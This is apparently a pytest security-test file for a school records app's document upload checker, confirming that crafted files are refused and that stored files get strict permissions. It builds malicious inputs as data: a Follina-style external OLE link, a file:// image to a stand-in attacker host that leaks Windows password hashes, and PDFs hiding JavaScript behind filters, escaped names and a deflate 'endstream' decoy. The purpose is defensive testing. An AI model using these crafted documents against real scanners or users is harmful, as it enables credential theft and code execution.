"""Security review of issue 5 (evidence): each test failed before its fix.

- Word files that run or fetch something when opened, without a macro: an OLE object loaded
  from a web address (CVE-2022-30190, "Follina"), embedded OLE objects and ActiveX controls,
  imported HTML or RTF chunks, pictures fetched from a network share.
- PDFs whose scripts or attachments the check could not see: encrypted ones, object streams
  wrapped in a filter it does not unpack, a literal "endstream" inside compressed data, a
  script in an XFA form, an attachment that does not say /EmbeddedFile.
- Kept files readable by the app's own account only, not by every account on the server.
- The page listing who a pupil's record is shared with is a read of that record: audited.
"""

import binascii
import datetime
import os
import stat
import zlib

import pytest
from django.urls import reverse
from django_scopes import scope

from waymark.core.actor import Actor
from waymark.core.models import AuditEvent, Visibility
from waymark.evidence import documents as services
from waymark.evidence.models import Document
from waymark.evidence.uploads import UploadRefused, check_upload

from .filemakers import docx, pdf, upload

RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
DOCX_ACTIVE = (
    "Word documents with embedded objects, or content that opens from elsewhere, cannot be added. "
    "Save it as a PDF and try again."
)
PDF_UNCHECKED = (
    "This PDF is protected or saved in a way that cannot be checked. "
    "Save or print it as a new PDF, without a password, and try again."
)
SCRIPTS = "PDFs with scripts or attachments cannot be added."


def refusal(name, data):
    with pytest.raises(UploadRefused) as caught:
        check_upload(upload(name, data))
    return caught.value


def with_relationships(*relationships, extra=None):
    """A .docx whose main document has these ``<Relationship>`` elements (strings)."""
    rels = f'<?xml version="1.0"?><Relationships xmlns="{RELS_NS}">{"".join(relationships)}</Relationships>'
    return docx(extra={"word/_rels/document.xml.rels": rels, **(extra or {})})


# ----- Word -----


@pytest.mark.parametrize(
    "relationship",
    [
        # Follina: an OLE object fetched from a web page when the document opens, no macro needed.
        f'<Relationship Id="rId996" Type="{REL}oleObject" Target="http://example.test/x.html!" TargetMode="External"/>',
        # An embedded OLE object: a package that can carry a program, opened with a double click.
        f'<Relationship Id="rId5" Type="{REL}oleObject" Target="embeddings/oleObject1.bin"/>',
        # An ActiveX control.
        f'<Relationship Id="rId6" Type="{REL}control" Target="activeX/activeX1.xml"/>',
        # A chunk of HTML or RTF imported when the document opens.
        f'<Relationship Id="rId7" Type="{REL}aFChunk" Target="afchunk.mht"/>',
        # A picture fetched from a network share hands over the reader's Windows password hash;
        # the attribute's escape is still "External" to Word.
        f'<Relationship Id="rId8" Type="{REL}image" Target="file://attacker.test/a.png" TargetMode="Ext&#101;rnal"/>',
        # A frame loaded from elsewhere.
        f'<Relationship Id="rId9" Type="{REL}frame" Target="http://example.test/f.html" TargetMode="External"/>',
    ],
)
def test_word_files_that_load_or_run_something_when_opened_are_refused(relationship):
    data = with_relationships(relationship, extra={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 60})
    refused = refusal("report.docx", data)
    assert refused.code == "docx_active_content"
    assert refused.message == DOCX_ACTIVE


def test_a_word_file_with_ordinary_links_and_pictures_is_kept():
    data = with_relationships(
        f'<Relationship Id="rId1" Type="{REL}hyperlink" Target="https://www.gov.uk/" TargetMode="External"/>',
        f'<Relationship Id="rId2" Type="{REL}image" Target="media/image1.png"/>',
        f'<Relationship Id="rId3" Type="{REL}styles" Target="styles.xml"/>',
    )
    assert check_upload(upload("report.docx", data)).content_type.endswith("wordprocessingml.document")


def test_a_relationships_part_with_a_dtd_is_refused():
    rels = (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY m "External">]>'
        f'<Relationships xmlns="{RELS_NS}"><Relationship Id="r" Type="{REL}image" Target="//x/a.png" '
        'TargetMode="&m;"/></Relationships>'
    )
    assert refusal("report.docx", docx(extra={"word/_rels/document.xml.rels": rels})).code == "damaged"


# ----- PDF -----


def raw_pdf(*objects, trailer=b"<< /Root 1 0 R >>"):
    parts = [b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n", *objects]
    parts.append(b"trailer\n" + trailer + b"\n%%EOF\n")
    return b"".join(parts)


def stream_object(number, dictionary, data):
    return (
        f"{number} 0 obj\n<< {dictionary} /Length {len(data)} >>\nstream\n".encode() + data + b"\nendstream\nendobj\n"
    )


SCRIPT_OBJECTS = b"5 0 << /S /JavaScript /JS (app.alert(1)) >>"


def test_an_encrypted_pdf_is_refused_as_it_cannot_be_checked():
    # An empty user password opens it without asking, while every stream is unreadable here.
    data = pdf(b"<< /Type /Catalog /Pages 2 0 R >>").replace(
        b"<< /Root 1 0 R >>", b"<< /Root 1 0 R /Encrypt << /Filter /Standard /V 4 /R 4 >> >>"
    )
    refused = refusal("report.pdf", data)
    assert refused.code == "pdf_unchecked" and refused.message == PDF_UNCHECKED


@pytest.mark.parametrize(
    ("filters", "encode"),
    [
        ("/ASCIIHexDecode", lambda data: binascii.hexlify(data) + b">"),
        ("/AHx", lambda data: binascii.hexlify(data) + b">"),
        ("[/ASCII85Decode /FlateDecode]", lambda data: __import__("base64").a85encode(zlib.compress(data)) + b"~>"),
        ("/ASCII#48exDecode", lambda data: binascii.hexlify(data) + b">"),  # the same name, escaped
    ],
)
def test_a_script_in_an_object_stream_wrapped_in_another_filter_is_refused(filters, encode):
    encoded = encode(SCRIPT_OBJECTS)
    data = raw_pdf(stream_object(3, f"/Type /ObjStm /N 1 /First 4 /Filter {filters}", encoded))
    assert b"JavaScript" not in data  # nothing to see without unpacking
    refused = refusal("report.pdf", data)
    assert refused.code == "pdf_unchecked" and refused.message == PDF_UNCHECKED


def test_endstream_inside_compressed_data_does_not_cut_the_check_short():
    # A stored (uncompressed) deflate block holding the word "endstream", then the script, compressed.
    decoy, payload = b"padding endstream padding ", SCRIPT_OBJECTS * 3
    first = zlib.compressobj(0, zlib.DEFLATED, -15)
    raw = first.compress(decoy) + first.flush(zlib.Z_SYNC_FLUSH)
    second = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw += second.compress(payload) + second.flush()
    packed = b"\x78\x01" + raw + zlib.adler32(decoy + payload).to_bytes(4, "big")
    assert zlib.decompress(packed) == decoy + payload  # a reader unpacks all of it
    data = raw_pdf(stream_object(3, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", packed))
    assert b"JavaScript" not in data
    assert refusal("report.pdf", data).message == SCRIPTS


@pytest.mark.parametrize(
    "body",
    [
        b"<< /Type /Catalog /AcroForm << /Fields [] /XFA 7 0 R >> >>",  # an XFA form: scripts in its XML
        # An attachment annotation whose file stream does not say /Type /EmbeddedFile (it need not).
        b"<< /Type /Annot /Subtype /FileAttachment /FS << /Type /Filespec /F (a.exe) /EF << /F 3 0 R >> >> >>",
    ],
)
def test_xfa_forms_and_attachments_are_refused(body):
    refused = refusal("report.pdf", pdf(body))
    assert refused.code == "pdf_active_content" and refused.message == SCRIPTS


@pytest.mark.parametrize("line_end", [b"\r", b" %comment\n"])
def test_a_stream_whose_line_ends_oddly_is_still_unpacked(line_end):
    # Readers start the data after whatever ends the "stream" line, a lone CR included.
    packed = zlib.compress(SCRIPT_OBJECTS)
    data = raw_pdf(
        f"3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {len(packed)} >>\nstream".encode()
        + line_end
        + packed
        + b"\nendstream\nendobj\n"
    )
    assert refusal("report.pdf", data).message == SCRIPTS


def test_ordinary_compressed_pdfs_are_still_kept():
    data = raw_pdf(
        stream_object(3, "/Filter /FlateDecode", zlib.compress(b"BT /F1 12 Tf (Reading age 7y 4m) Tj ET")),
        stream_object(4, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", zlib.compress(b"5 0 << /Type /Font >>")),
        stream_object(6, "/Subtype /Image /Filter /DCTDecode", b"\xff\xd8\xff\xe0" + bytes(range(256)) + b"\xff\xd9"),
    )
    assert check_upload(upload("report.pdf", data)).content_type == "application/pdf"


# ----- the kept file -----


def test_a_kept_file_is_readable_by_the_app_alone(cast, settings):
    settings.WAYMARK_VIRUS_SCANNER = "none"
    with scope(school=[cast.school.pk]):
        document = services.document_upload(
            actor=Actor.for_user(cast.senco),
            pupil=cast.pupil,
            upload=upload("report.pdf", pdf()),
            title="Speech and language report",
            kind=Document.Kind.ASSESSMENT,
            written_on=datetime.date.today(),
            visibility=Visibility.STAFF,
        )
    path = document.file.path
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    assert stat.S_IMODE(os.stat(os.path.dirname(path)).st_mode) == 0o700


# ----- reads of the record -----


def test_the_list_of_who_a_pupil_is_shared_with_is_audited(cast, client_for):
    url = reverse("evidence:share-list", args=[cast.pupil.public_id])
    assert client_for(cast.senco).get(url).status_code == 200
    (event,) = AuditEvent.objects.filter(action="evidence.shares.listed")
    assert event.actor == cast.senco and event.pupil_id == cast.pupil.public_id and event.school == cast.school
